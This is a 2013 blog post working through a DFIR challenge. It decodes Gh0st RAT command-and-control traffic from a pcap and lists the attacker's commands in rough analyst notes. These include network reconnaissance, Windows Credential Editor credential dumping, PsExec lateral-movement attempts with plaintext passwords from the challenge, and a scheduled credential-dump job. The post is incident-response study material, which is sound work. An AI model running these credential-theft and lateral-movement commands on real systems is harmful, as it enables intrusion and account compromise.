Tuesday, May 7, 2013

Jack Crook DFIR Challenge - PCAP

I've been working on a DFIR challenge put out there by @jackcr over athis HandlerDiaries site and thought I would make a few posts about it for my reference more than anything else.

The challenge consists of a pcap file and the memory dumps of four potentially infected machines and the objectives are as follows:
  1. Determine which machines are compromised
  2. Identify the who, what, when , where, and how
  3. Determine whether or not the incident is contained
The initial breadcrumb you are given to work from is:

An ids alert initially triggered on ENG-USTXHOU-148 for an established port 80 connection to a known bad ip address.

Ok, so we have an established session over port 80 to a known bad.  Let's open up the pcap and take a look.

We see the three-way handshakeand then the forth packet destined to port 80 on the known bad.  Looking at the payload, it's obvious that this isn't normal HTTP traffic.  Looking at other packets you notice the same header in the payload of the packet: Gh0st.  A quick google search confirms that this repeated header is a tell-tale sign of the Gh0st RAT trojan.  Michael Spohn has a great breakdown of Ghost RAT at
Essentially, the data used in the communication between the C2 server and client is broken out like so:

1. First 5bytes contain the header Gh0st
2. Next 4 bytes contains the length of the payload in bytes (payload is compressed in zlib format)
3. Next 4 bytes contains the length of the uncompressed payload in bytes
4. Theactual payload (zlib compressed)

Now that we know how the data is structured, how dowe pull all the data out of the pcap and uncompress it?  I'm sure there are numerous ways to write scripts that will do this.  As a matter of fact I had begun digging into using scapy or Impacket to do just that when I hit the Google lottery.  I found a program written bythe folks over that MITRE called Chopshop.  Chopshop is a protocol decoder framework, which basically means, they do all the heavy lifting of getting to the actual data, you just write the module to decode it.  Ever better for me though is that they had already written a Gh0st RAT protocol decoder


The command above runs the pcap through the chopshot gh0st_decode module and dumps the output to a text file.

You can see in the top line where the TOKEN: LOGIN command was issued from the C2 client to eng-ustxhou-148.  Let's see what else we can see.   Below are my rough notes.
c:\WINDOWS\ps.exe 381816
c:\WINDOWS\webui\gs.exe 303104
c:\WINDOWS\webui\ra.exe 403968
c:\WINDOWS\webui\sl.exe 20480
  ipconfig /all
  net view
  net localgroup administrators
  net sesssions
  net share
  net startsl.ese -bht 445,80,443,21,1433
  gs -a

ScanLine 1.01 Foundstone
 -b Banner Grab
 -h hide systems with no open ports
 -t scan specified TCP ports

gs -a

WCE v1.3beta Windows Credential Editor
wc.exe -l ====> List logon sessions and NTLM credentials
wc.exe -w ====> Dump cleartext passwords stored by the digest authentication package

ps.exe \\ -u petro1-market\callb -pMar1ners@4655 - accepteula cmd /c ipconfig ====> PSEXEC to run ipconfig on FAILED
ps.exe \\ -u petro1-market\callb -p Mar1ners@4655 - accepteula cmd /c ipconfig ====> PSEXEC to run ipconfig on FAILED

wc.exe -s sysbackup:current:xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx:yyyyyyyyyyyyyyyyyyyyyyyyyyyyy  =====> Changes NTLM credentials of current logon session

ps.exe \\ -u sysbackup -p T1g3rsL10n5 - accepteula cmd /c ipconfig ====> PSEXEC to run ipconfig on FAILED
ps.exe \\ -u sysbackup -p T1g3rsL10n5 - accepteula cmd /c ipconfig ====> PSEXEC to run ipconfig on FAILED - Error copying ipconfig.exe to remote system

net use z:\\\z  ====> Share named z.  Previously compromised? Check for webui directory on IIS-SARIYADH
copy z:\system.dll . ====> Copies system.dll from into c:\Windows\webui\
copy z:\svchost.dll . ====> Copies svchost.dll from intoc:\Windows\webui\
copy z:\https.dll . ====> Copies https.dll from into c:\Windows\webui\
copy z:\netstat.dll . ====> Copies netstat.dll from into c:\Windows\webui\

net time ===> Current time at \\DC-USTXHOU is 11/26/2012 7:25 PM
system5.bat ==> at 7:30pm today run: wc.exe -e -o h.out  ===>  List loginsessions NTLM credentialsinfefinitely and write to file

net start ==> List started services
system.dll  -> From IIS-SARIYADH-03
svchost.dll  -> From IIS-SARIYADH-03
https.dll  -> From IIS-SARIYADH-03
netstat.dll  -> From IIS-SARIYADH-03


Looks like mostly information gathering.  Things that I want to look for in the memory dumps are the wc.exe process and relevant output files,and the attacker wasable to connect to a "z" share on IIS-SARIYADH that leads me to believe that it wascompromised previously.Need to do some more digging...

Nocomments:

Post a Comment